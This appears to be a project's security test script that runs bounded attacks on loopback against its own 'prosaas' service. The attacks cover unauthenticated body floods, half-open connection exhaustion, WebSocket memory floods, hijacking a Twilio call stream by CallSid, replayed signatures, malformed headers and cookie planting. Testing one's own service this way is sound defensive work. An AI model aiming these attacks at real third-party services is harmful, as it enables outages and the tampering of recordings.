#!/usr/bin/env python3
"""The attacks of issues #15 and #26 against one prosaas binary, on loopback, with a private
redis-server.

    python3 scripts/edge-attacks.py target/release/prosaas [attack ...]

Attacks of #15 (the default set):
  bodies   N unauthenticated 1 MB webhook bodies at once; the api's RSS before and after
  cap      max_concurrent_requests slow authenticated bodies, then /healthz and /readyz
  idle     300 half-open connections (half a request line / half the headers / nothing);
           how many are still open after 10 s, 45 s and 80 s
  worker   200,000 diag.noop jobs through one worker nobody scrapes; its RSS every 50,000

Attacks of #26 (name them, or `edge2` for all):
  stream_disk    an anonymous stream: start, then two media frames stamped 21599000 ms; bytes
                 on disk after 2 s
  stream_hijack  a real 4 s call (opened as Twilio does: signed upgrade, the TwiML's token) and
                 an anonymous stream that starts the same CallSid 1 s in and stops at once: the
                 real call's recording against its audio, and the jobs enqueued
  stream_memory  30 anonymous sockets each sending two 11 MB messages; calls RSS before, peak
                 and after
  stream_replay  stream_disk and stream_memory with a replayed Twilio signature on the upgrade
  batch          16 concurrent WhatsApp webhooks of 10,000 messages (0.55 MB) each, then 16 of
                 1,000 messages (0.6 MB): statuses, api RSS peak and after, jobs enqueued
  outage         webhooks every 20 ms while Redis is stopped for 4 s: answers by status
  fair_depth     10,000 jobs over 9,010 tenant lanes of a fair queue: health's queued against
                 the lanes' real length
  errors         a 1 MB header, 10,000 headers, GET /api/jobs/%00%ff, a bad chunk size:
                 status, content type, body
  cookie         a dashboard request with a planted cookie before the valid one

Every load is bounded and stops by itself. Prints one line per figure.
"""
import base64
import hashlib
import hmac
import json
import os
import re
import shutil
import threading
import socket
import subprocess
import sys
import tempfile
import time
import urllib.parse
import urllib.request

SECRET, TOKEN = "bridge-secret", "api-token"
RQ_PYTHON = os.environ.get("RQ_PYTHON", "target/rq-venvs/3.0.0/bin/python")
ENQUEUE = """
import sys
from redis import Redis
from rq import Queue
from rq.serializers import JSONSerializer
q = Queue("default", connection=Redis.from_url(sys.argv[1]), serializer=JSONSerializer)
n = int(sys.argv[2])
for start in range(0, n, 1000):
    q.enqueue_many([Queue.prepare_data("diag.noop", result_ttl=0) for _ in range(min(1000, n - start))])
"""


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return -1


class Redis:
    def __init__(self):
        self.dir = tempfile.mkdtemp()
        self.port = free_port()
        self.proc = subprocess.Popen(
            ["redis-server", "--port", str(self.port), "--save", "", "--appendonly", "no",
             "--dir", self.dir], stdout=subprocess.DEVNULL)
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", self.port), 0.1).close()
                return
            except OSError:
                time.sleep(0.05)

    def url(self):
        return f"redis://127.0.0.1:{self.port}/0"

    def stop(self):
        self.proc.kill()
        self.proc.wait()
        shutil.rmtree(self.dir, ignore_errors=True)


def start(binary, role, redis, extra=None):
    port = free_port()
    env = {"PATH": os.environ["PATH"], "REDIS_URL": redis.url(), "PORT": str(port),
           "PROSAAS__HTTP__HOST": "127.0.0.1", "INTERNAL_SECRET": SECRET,
           "INTERNAL_API_TOKEN": TOKEN, "TWILIO_AUTH_TOKEN": "t",
           "PUBLIC_BASE_URL": "https://example.com", "RUST_LOG": "warn"}
    env.update(extra or {})
    proc = subprocess.Popen([binary, "--role", role], env=env, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    for _ in range(200):
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{port}/healthz", timeout=1).read()
            return proc, port
        except OSError:
            time.sleep(0.05)
    raise SystemExit(f"{role} did not come up")


def status(port, path, timeout=5.0):
    try:
        return urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=timeout).status
    except urllib.error.HTTPError as e:
        return e.code
    except OSError as e:
        return f"no answer ({type(e).__name__})"


def head(path, length, extra=""):
    return (f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            f"Content-Length: {length}\r\n{extra}\r\n").encode()


def bodies(binary, n=600):
    redis = Redis()
    proc, port = start(binary, "api", redis)
    try:
        before = rss_kib(proc.pid)
        body = b"x" * 1_000_000
        socks = []
        for _ in range(n):
            s = socket.create_connection(("127.0.0.1", port))
            s.setblocking(False)
            s.send(head("/webhook/whatsapp/incoming", len(body)))
            socks.append([s, memoryview(body)])
        deadline = time.time() + 60
        while socks and time.time() < deadline:
            left = []
            for s, rest in socks:
                try:
                    sent = s.send(rest[:262144])
                    rest = rest[sent:]
                except BlockingIOError:
                    pass
                except OSError:
                    s.close()
                    continue
                if len(rest):
                    left.append([s, rest])
                else:
                    s.close()
            socks = left
            time.sleep(0.001)
        for s, _ in socks:
            s.close()
        time.sleep(1)
        after = rss_kib(proc.pid)
        print(f"bodies: {n} unauthenticated 1 MB bodies: RSS {before // 1024} MB -> {after // 1024} MB")
    finally:
        proc.kill()
        redis.stop()


def cap(binary, slots=200):
    redis = Redis()
    proc, port = start(binary, "api", redis, {"PROSAAS__API__MAX_CONCURRENT_REQUESTS": str(slots),
                                              "PROSAAS__API__REQUEST_TIMEOUT_MS": "60000"})
    try:
        held = []
        for _ in range(slots + 20):
            s = socket.create_connection(("127.0.0.1", port))
            s.send(head("/api/jobs/enqueue", 1000, f"Authorization: Bearer {TOKEN}\r\n") + b"{")
            held.append(s)
        time.sleep(1)
        for path in ("/healthz", "/readyz", "/metrics"):
            t = time.time()
            st = status(port, path)
            print(f"cap: {slots} slots held by slow bodies: {path} -> {st} in {1000 * (time.time() - t):.0f} ms")
        for s in held:
            s.close()
    finally:
        proc.kill()
        redis.stop()


def idle(binary, n=300):
    redis = Redis()
    proc, port = start(binary, "api", redis)
    try:
        socks = []
        for i in range(n):
            s = socket.create_connection(("127.0.0.1", port))
            s.send([b"GET /heal", b"GET /healthz HTTP/1.1\r\nHost: x\r\n", b""][i % 3])
            s.setblocking(False)
            socks.append(s)
        start_t = time.time()
        for mark in (10, 45, 80):
            time.sleep(max(0, start_t + mark - time.time()))
            still = 0
            for s in socks:
                try:
                    if s.recv(1) == b"":
                        continue
                except BlockingIOError:
                    still += 1
                    continue
                except OSError:
                    continue
            print(f"idle: {n} half-open or silent connections: {still} still open after {mark} s")
        for s in socks:
            s.close()
    finally:
        proc.kill()
        redis.stop()


def worker(binary, total=200_000, batch=50_000):
    redis = Redis()
    try:
        env = {"PATH": os.environ["PATH"], "REDIS_URL": redis.url()}
        proc, port = start(binary, "worker", redis, {"PROSAAS__WORKER__CONCURRENCY": "64"})
        time.sleep(1)
        print(f"worker: RSS at start {rss_kib(proc.pid) // 1024} MB")
        done = 0
        while done < total:
            # Python RQ enqueues (RQ's layout is prosaas's): a venv from scripts/rq-venvs.sh.
            subprocess.run([RQ_PYTHON, "-c", ENQUEUE, redis.url(), str(batch)], check=True)
            done += batch
            deadline = time.time() + 300
            while time.time() < deadline:
                out = subprocess.run([binary, "jobs", "stats", "--json"], env=env,
                                     capture_output=True, text=True).stdout
                if '"queued": 0' in out and '"started": 0' in out:
                    break
                time.sleep(0.5)
            print(f"worker: RSS after {done} jobs, never scraped: {rss_kib(proc.pid) // 1024} MB")
        proc.kill()
    finally:
        redis.stop()


TWILIO_TOKEN, PUBLIC_URL = "t", "https://example.com"


def redis_cli(redis, *args):
    return subprocess.run(["redis-cli", "-p", str(redis.port), *args], capture_output=True,
                          text=True).stdout.strip()


def twilio_signature(url, params=()):
    data = url + "".join(k + v for k, v in sorted(set(params)))
    mac = hmac.new(TWILIO_TOKEN.encode(), data.encode(), hashlib.sha1).digest()
    return base64.b64encode(mac).decode()


class Ws:
    """A minimal WebSocket client: the handshake, masked text frames out, frames in."""

    def __init__(self, port, headers=None):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        key = base64.b64encode(os.urandom(16)).decode()
        extra = "".join(f"{k}: {v}\r\n" for k, v in (headers or {}).items())
        self.sock.sendall((f"GET /ws/twilio/media HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\n"
                           f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
                           f"Sec-WebSocket-Version: 13\r\n{extra}\r\n").encode())
        answer = b""
        while b"\r\n\r\n" not in answer:
            chunk = self.sock.recv(4096)
            if not chunk:
                break
            answer += chunk
        self.status = int(answer.split(b" ", 2)[1]) if answer else 0

    def send(self, obj):
        data = (obj if isinstance(obj, (bytes, str)) else json.dumps(obj))
        data = data.encode() if isinstance(data, str) else data
        mask = os.urandom(4)
        n = len(data)
        if n < 126:
            head = bytes([0x81, 0x80 | n])
        elif n < 65536:
            head = bytes([0x81, 0x80 | 126]) + n.to_bytes(2, "big")
        else:
            head = bytes([0x81, 0x80 | 127]) + n.to_bytes(8, "big")
        body = bytes(b ^ mask[i % 4] for i, b in enumerate(data)) if n < 100_000 else \
            (int.from_bytes(data, "big") ^ int.from_bytes((mask * (n // 4 + 1))[:n], "big")).to_bytes(n, "big")
        try:
            self.sock.sendall(head + mask + body)
            return True
        except OSError:
            return False

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def media(ts, payload=b"\xff" * 160):
    return {"event": "media", "media": {"track": "inbound", "timestamp": str(ts),
                                        "payload": base64.b64encode(payload).decode()}}


def start_msg(sid, params=None):
    return {"event": "start", "start": {"callSid": sid, "streamSid": "MZ" + sid,
            "customParameters": params or {},
            "mediaFormat": {"encoding": "audio/x-mulaw", "sampleRate": 8000, "channels": 1}}}


def dir_bytes(d):
    return sum(os.path.getsize(os.path.join(d, f)) for f in os.listdir(d)
               if os.path.isfile(os.path.join(d, f)))


def calls_role(binary, redis, extra=None):
    rec = tempfile.mkdtemp()
    env = {"PROSAAS__RECORDINGS__DIR": rec}
    env.update(extra or {})
    proc, port = start(binary, "calls", redis, env)
    return proc, port, rec


def stream_disk(binary, headers=None):
    redis = Redis()
    proc, port, rec = calls_role(binary, redis)
    try:
        ws = Ws(port, headers)
        if ws.status == 101:
            ws.send(start_msg("CAATTACK", {"business_id": "evil"}))
            ws.send(media(21599000))
            ws.send(media(21599000))
            time.sleep(2)
        ws.close()
        time.sleep(1)
        who = "signed (replayed), no stream token" if headers else "anonymous"
        print(f"stream_disk: {who} upgrade -> {ws.status}; {dir_bytes(rec)} bytes on disk from 3 messages")
    finally:
        proc.kill()
        redis.stop()
        shutil.rmtree(rec, ignore_errors=True)


def twiml_token(port, sid):
    """The stream token /twilio/voice gives a call (None from a build that gives none)."""
    params = [("CallSid", sid), ("From", "+1"), ("To", "+2")]
    url = f"{PUBLIC_URL}/twilio/voice?business_id=12"
    body = "&".join(f"{k}={urllib.parse.quote(v)}" for k, v in params).encode()
    req = urllib.request.Request(f"http://127.0.0.1:{port}/twilio/voice?business_id=12", data=body,
                                 headers={"Content-Type": "application/x-www-form-urlencoded",
                                          "X-Twilio-Signature": twilio_signature(url, params)})
    twiml = urllib.request.urlopen(req, timeout=5).read().decode()
    m = re.search(r'name="stream_token" value="([^"]+)"', twiml)
    return m.group(1) if m else None


def stream_hijack(binary):
    redis = Redis()
    proc, port, rec = calls_role(binary, redis)
    sid = "CAVICTIM"
    try:
        token = twiml_token(port, sid)
        params = {"business_id": "12", "call_sid": sid}
        if token:
            params["stream_token"] = token
        wss = PUBLIC_URL.replace("https://", "wss://") + "/ws/twilio/media"
        victim = Ws(port, {"X-Twilio-Signature": twilio_signature(wss)})
        victim.send(start_msg(sid, params))
        audio = bytes(range(1, 161))
        attack = {}

        def attacker():
            time.sleep(1)
            a = Ws(port)
            attack["status"] = a.status
            if a.status == 101:
                a.send(start_msg(sid, {"business_id": "evil"}))
                a.send(media(0, b"\x00" * 160))
                a.send({"event": "stop"})
            time.sleep(0.5)
            a.close()

        t = threading.Thread(target=attacker)
        t.start()
        t0 = time.time()
        for n in range(200):
            time.sleep(max(0, t0 + n * 0.02 - time.time()))
            victim.send(media(n * 20, audio))
        victim.send({"event": "stop"})
        t.join()
        time.sleep(1.5)
        victim.close()
        path = os.path.join(rec, f"{sid}.inbound.wav")
        data = open(path, "rb").read()[44:] if os.path.exists(path) else b""
        intact = sum(1 for i in range(0, len(data) - 159, 160) if data[i:i + 160] == audio)
        jobs = []
        for jid in redis_cli(redis, "lrange", "rq:queue:default", "0", "-1").split():
            desc = redis_cli(redis, "hget", f"rq:job:{jid}", "description")
            kind = desc.split("(")[0]
            took = re.search(r"duration_secs=([0-9.]+)", desc)
            tenant = re.search(r"business_id.{0,6}?(evil|12)", desc)
            jobs.append(kind + (f" {took.group(1)} s" if took else "")
                        + (f" tenant {tenant.group(1)}" if tenant else ""))
        zeros = data.count(0)
        print(f"stream_hijack: attacker's upgrade -> {attack.get('status')}; the real call's file "
              f"{len(data)} bytes, {intact} of 200 frames intact, {zeros} zero bytes; jobs {jobs}")
    finally:
        proc.kill()
        redis.stop()
        shutil.rmtree(rec, ignore_errors=True)


def peak_rss(pid, stop, out):
    peak = 0
    while not stop.is_set():
        peak = max(peak, rss_kib(pid))
        time.sleep(0.02)
    out.append(peak)


def replayed():
    """The upgrade headers of an attacker who replays a Twilio signature of the stream URL (it
    covers the URL alone, so one seen once opens sockets until the auth token changes)."""
    return {"X-Twilio-Signature": twilio_signature(PUBLIC_URL.replace("https://", "wss://") + "/ws/twilio/media")}


def stream_replay(binary):
    """stream_disk and stream_memory again with a replayed signature: the socket opens; what
    can it make the process write and hold?"""
    stream_disk(binary, replayed())
    stream_memory(binary, replayed())


def stream_memory(binary, headers=None):
    redis = Redis()
    proc, port, rec = calls_role(binary, redis)
    try:
        before = rss_kib(proc.pid)
        stop, peak = threading.Event(), []
        watcher = threading.Thread(target=peak_rss, args=(proc.pid, stop, peak))
        watcher.start()
        big = b'{"event":"media","media":{"track":"inbound","timestamp":"0","payload":"' + \
            b"A" * 11_000_000 + b'"}}'
        socks = [Ws(port, headers) for _ in range(30)]
        statuses = [s.status for s in socks]
        for i, s in enumerate(socks):
            if s.status == 101:
                s.send(start_msg(f"CAMEM{i}"))

        def flood(s):
            if s.status == 101:
                s.send(big)
                s.send(big)

        senders = [threading.Thread(target=flood, args=(s,)) for s in socks]
        for t in senders:
            t.start()
        for t in senders:
            t.join()
        time.sleep(2)
        for s in socks:
            s.close()
        time.sleep(2)
        stop.set()
        watcher.join()
        after = rss_kib(proc.pid)
        who = "signed (replayed)" if headers else "anonymous"
        print(f"stream_memory: 30 {who} sockets (upgrades {sorted(set(statuses))}) x two 11 MB messages: "
              f"RSS {before // 1024} MB -> peak {peak[0] // 1024} MB -> {after // 1024} MB after")
    finally:
        proc.kill()
        redis.stop()
        shutil.rmtree(rec, ignore_errors=True)


def whatsapp_body(n, text_len, tag):
    msgs = [{"key": {"id": f"{tag}-{i}", "remoteJid": "972500000000@s.whatsapp.net"},
             "message": {"conversation": "x" * text_len}} for i in range(n)]
    return json.dumps({"tenantId": "1", "payload": {"messages": msgs}}, separators=(",", ":")).encode()


def post_many(port, bodies_):
    out = [None] * len(bodies_)

    def one(i):
        req = urllib.request.Request(f"http://127.0.0.1:{port}/webhook/whatsapp/incoming",
                                     data=bodies_[i], headers={"Content-Type": "application/json",
                                                               "X-Internal-Secret": SECRET})
        try:
            out[i] = urllib.request.urlopen(req, timeout=60).status
        except urllib.error.HTTPError as e:
            out[i] = e.code
        except OSError as e:
            out[i] = type(e).__name__

    threads = [threading.Thread(target=one, args=(i,)) for i in range(len(bodies_))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return out


def batch(binary):
    for n, text_len, label in ((10_000, 0, "10,000 messages"), (1_000, 520, "1,000 messages")):
        redis = Redis()
        proc, port = start(binary, "api", redis)
        try:
            bodies_ = [whatsapp_body(n, text_len, f"b{j}") for j in range(16)]
            before = rss_kib(proc.pid)
            stop, peak = threading.Event(), []
            watcher = threading.Thread(target=peak_rss, args=(proc.pid, stop, peak))
            watcher.start()
            t = time.time()
            statuses = post_many(port, bodies_)
            took = time.time() - t
            time.sleep(1)
            stop.set()
            watcher.join()
            after = rss_kib(proc.pid)
            counts = {s: statuses.count(s) for s in set(statuses)}
            queued = redis_cli(redis, "llen", "rq:queue:default")
            print(f"batch: 16 concurrent webhooks of {label} ({len(bodies_[0]) / 1e6:.2f} MB): statuses {counts} in "
                  f"{took:.1f} s; RSS {before // 1024} MB -> peak {peak[0] // 1024} MB -> {after // 1024} MB; "
                  f"{queued} jobs queued")
        finally:
            proc.kill()
            redis.stop()


def outage(binary):
    redis = Redis()
    proc, port = start(binary, "api", redis)
    counts, stop = {}, threading.Event()

    def load():
        i = 0
        while not stop.is_set():
            i += 1
            body = whatsapp_body(1, 5, f"o{i}")
            st = post_many(port, [body])[0]
            counts[st] = counts.get(st, 0) + 1
            time.sleep(0.02)

    t = threading.Thread(target=load)
    try:
        t.start()
        time.sleep(1)
        redis.proc.kill()
        redis.proc.wait()
        time.sleep(4)
        redis.proc = subprocess.Popen(
            ["redis-server", "--port", str(redis.port), "--save", "", "--appendonly", "no",
             "--dir", redis.dir], stdout=subprocess.DEVNULL)
        time.sleep(3)
        stop.set()
        t.join()
        print(f"outage: webhooks every 20 ms through a 4 s Redis stop: answers {counts}")
    finally:
        stop.set()
        proc.kill()
        redis.stop()


def fair_depth(binary, jobs=10_000, tenants=9_010):
    redis = Redis()
    proc, port = start(binary, "api", redis, {"PROSAAS__QUEUES": '{"default": {"fairness": "tenant"}}'})
    try:
        lines = []
        for i in range(jobs):
            tenant = f"t{i % tenants}"
            body = json.dumps({"job_type": "diag.noop", "queue": "default", "tenant": tenant})
            lines.append(body)

        def send(chunk):
            for body in chunk:
                req = urllib.request.Request(f"http://127.0.0.1:{port}/api/jobs/enqueue",
                                             data=body.encode(),
                                             headers={"Content-Type": "application/json",
                                                      "Authorization": f"Bearer {TOKEN}"})
                urllib.request.urlopen(req, timeout=10).read()

        threads = [threading.Thread(target=send, args=(lines[i::8],)) for i in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        keys = subprocess.run(["redis-cli", "-p", str(redis.port), "--scan", "--pattern", "rq:queue:default*"],
                              capture_output=True, text=True).stdout.split()
        real = sum(int(redis_cli(redis, "llen", k)) for k in keys)
        req = urllib.request.Request(f"http://127.0.0.1:{port}/api/jobs/health",
                                     headers={"Authorization": f"Bearer {TOKEN}"})
        health = json.load(urllib.request.urlopen(req, timeout=10))
        metric = [l for l in urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics").read().decode().splitlines()
                  if l.startswith('prosaas_queue_jobs{queue="default",state="queued"}')]
        print(f"fair_depth: {jobs} jobs over {len(keys)} lists ({real} queued in them): health says "
              f"{health['queues']['default']['queued']}, /metrics {metric}")
    finally:
        proc.kill()
        redis.stop()


def raw(port, data):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    try:
        s.sendall(data)
    except OSError:
        pass
    out = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            out += chunk
    except OSError:
        pass
    s.close()
    head, _, body = out.partition(b"\r\n\r\n")
    lines = head.decode(errors="replace").split("\r\n")
    ctype = next((l.split(":", 1)[1].strip() for l in lines if l.lower().startswith("content-type:")), "-")
    return lines[0], ctype, body[:120].decode(errors="replace")


def errors(binary):
    redis = Redis()
    proc, port = start(binary, "api", redis)
    try:
        cases = {
            "a 1 MB header": b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 1_000_000 + b"\r\n\r\n",
            "10,000 headers": b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"".join(
                f"X-H{i}: v\r\n".encode() for i in range(10_000)) + b"\r\n",
            "GET /api/jobs/%00%ff": f"GET /api/jobs/%00%ff HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\n"
                                    f"Connection: close\r\n\r\n".encode(),
            "a bad chunk size": (f"POST /webhook/whatsapp/incoming HTTP/1.1\r\nHost: x\r\nX-Internal-Secret: {SECRET}\r\n"
                                 f"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{{}}\r\n0\r\n\r\n").encode(),
        }
        for what, data in cases.items():
            line, ctype, body = raw(port, data)
            print(f"errors: {what}: {line!r}, {ctype}, body {body!r}")
    finally:
        proc.kill()
        redis.stop()


def cookie(binary):
    redis = Redis()
    proc, port = start(binary, "api", redis, {"DASHBOARD_PASSWORD": "pw", "PROSAAS__DASHBOARD__SECURE_COOKIE": "false"})
    try:
        req = urllib.request.Request(f"http://127.0.0.1:{port}/dashboard/login", data=b"token=pw",
                                     headers={"Content-Type": "application/x-www-form-urlencoded"})

        class NoRedirect(urllib.request.HTTPRedirectHandler):
            def redirect_request(self, *a, **k):
                return None

        opener = urllib.request.build_opener(NoRedirect)
        try:
            r = opener.open(req, timeout=5)
            headers = r.headers
        except urllib.error.HTTPError as e:
            headers = e.headers
        valid = headers["Set-Cookie"].split(";")[0]
        for label, value in (("valid cookie alone", valid),
                             ("planted cookie first", f"prosaas_dashboard=junk; {valid}")):
            req = urllib.request.Request(f"http://127.0.0.1:{port}/dashboard/api/overview",
                                         headers={"Cookie": value})
            try:
                st = urllib.request.urlopen(req, timeout=5).status
            except urllib.error.HTTPError as e:
                st = e.code
            print(f"cookie: {label}: {st}")
    finally:
        proc.kill()
        redis.stop()


EDGE2 = ["stream_disk", "stream_hijack", "stream_memory", "stream_replay", "batch", "outage",
         "fair_depth", "errors", "cookie"]


if __name__ == "__main__":
    if len(sys.argv) < 2:
        raise SystemExit(__doc__)
    binary = sys.argv[1]
    chosen = sys.argv[2:] or ["bodies", "cap", "idle", "worker"]
    if chosen == ["edge2"]:
        chosen = EDGE2
    for name in chosen:
        globals()[name](binary)
